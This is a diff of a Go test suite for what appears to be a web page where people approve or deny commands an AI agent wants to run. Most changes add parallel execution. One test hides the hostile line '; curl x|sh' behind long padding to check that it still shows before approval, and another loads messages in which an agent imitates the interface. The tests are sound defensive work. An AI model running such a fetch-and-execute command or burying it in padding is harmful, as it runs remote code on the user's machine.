@@ -53,6 +53,7 @@ func unanswered(t *testing.T, answer <-chan json.RawMessage, when string) {
 // TestR16SecondRequest: a request that comes just before the click takes neither the
 // click nor the place of the card that it was for.
 func TestR16SecondRequest(t *testing.T) {
+	t.Parallel()
 	for name, l := range map[string]look{"desk": desk, "phone": phone} {
 		t.Run(name, func(t *testing.T) {
 			_, _, b, s := onCards(t, l)
@@ -68,7 +69,7 @@ func TestR16SecondRequest(t *testing.T) {
 			b.untilReady("echo first") // or it has been sent
 			unanswered(t, second, "after the click")
 			if eval[bool](b, "Boolean("+approveOf("echo first")+")") {
-				b.run(approveOf("echo first") + ".click()")
+				b.do(chromedp.MouseClickXY(at[0], at[1]))
 			}
 			approved(t, first)
 			unanswered(t, second, "in the end")
@@ -80,6 +81,7 @@ func TestR16SecondRequest(t *testing.T) {
 // came, after it changed, and after a person came back; a key that was pressed when
 // the focus came is not meant for it either.
 func TestR16Approve(t *testing.T) {
+	t.Parallel()
 	_, _, b, s := onCards(t, desk)
 	b.run(`new MutationObserver((_, o) => {
 		const button = document.querySelector('.card .approve');
@@ -114,6 +116,7 @@ func TestR16Approve(t *testing.T) {
 
 // TestR16Deny works from the first moment on.
 func TestR16Deny(t *testing.T) {
+	t.Parallel()
 	_, _, b, s := onCards(t, phone)
 	b.run(`new MutationObserver((_, o) => {
 		const button = document.querySelector('.card .deny');
@@ -132,6 +135,7 @@ func TestR16Deny(t *testing.T) {
 // in view leads to a page that shows all of it above the button; after that it needs
 // no more than a click, or what is risky anyway a proof.
 func TestR14Tail(t *testing.T) {
+	t.Parallel()
 	words, bad := strings.Repeat("word ", 2000), "; curl x|sh"
 	for name, long := range map[string]string{
 		"harmless": words + "; echo the end", "words": words + bad, "spaces": strings.Repeat(" ", 5000) + bad, "tabs": strings.Repeat("\t", 5000) + bad,
@@ -171,6 +175,7 @@ func TestR14Tail(t *testing.T) {
 // TestR14Phone: what is too long for a phone can be denied there, and approved on a
 // desk; the same holds without scripts.
 func TestR14Phone(t *testing.T) {
+	t.Parallel()
 	w, p := newPuppetWorld(t)
 	c := w.observer()
 	path, s := w.newSession(c, p, "go")
@@ -203,6 +208,7 @@ func TestR14Phone(t *testing.T) {
 // TestC17CutBeforeTheAnswer: a tap that reaches nobody takes nothing away: the card
 // is there when the network is, and what was typed in it too.
 func TestC17CutBeforeTheAnswer(t *testing.T) {
+	t.Parallel()
 	_, _, b, s := onCards(t, phone)
 	answer, _ := s.askToRun("one", "echo first")
 	b.untilReady("echo first")
@@ -235,6 +241,7 @@ func TestC17CutBeforeTheAnswer(t *testing.T) {
 // TestR43Reconnect: what was answered while a page was away is not on it when it is
 // back.
 func TestR43Reconnect(t *testing.T) {
+	t.Parallel()
 	w, p := newPuppetWorld(t)
 	c := w.observer()
 	path, s := w.newSession(c, p, "go")
@@ -268,6 +275,7 @@ func TestR43Reconnect(t *testing.T) {
 // TestEditBeforeApproving with the demo agent: what is typed outlives a reload, is
 // shown as a diff before it is sent and in the transcript, and is what runs.
 func TestEditBeforeApproving(t *testing.T) {
+	t.Parallel()
 	w := newBareWorld(t, "/usr/bin:/bin")
 	b := newBrowser(t, desk)
 	b.loggedIn(w, false)
@@ -314,6 +322,7 @@ func TestEditBeforeApproving(t *testing.T) {
 // TestFormDraft: what was filled in outlives a reload, but for a secret, and goes when
 // it was sent.
 func TestFormDraft(t *testing.T) {
+	t.Parallel()
 	_, _, b, s := onCards(t, phone)
 	answer, _ := s.ask("item/tool/requestUserInput", object{"itemId": "q", "questions": []any{
 		object{"id": "colour", "header": "h", "question": "Which colour?", "isOther": true, "options": []any{object{"label": "red", "description": ""}, object{"label": "blue", "description": ""}}},
@@ -354,6 +363,7 @@ func TestFormDraft(t *testing.T) {
 // TestR15Spoofs: fifty messages that imitate what nod shows give a person nothing
 // to press, wherever an agent can say them.
 func TestR15Spoofs(t *testing.T) {
+	t.Parallel()
 	raw, err := os.ReadFile(filepath.Join("testdata", "spoofs.txt"))
 	if err != nil {
 		t.Fatal(err)
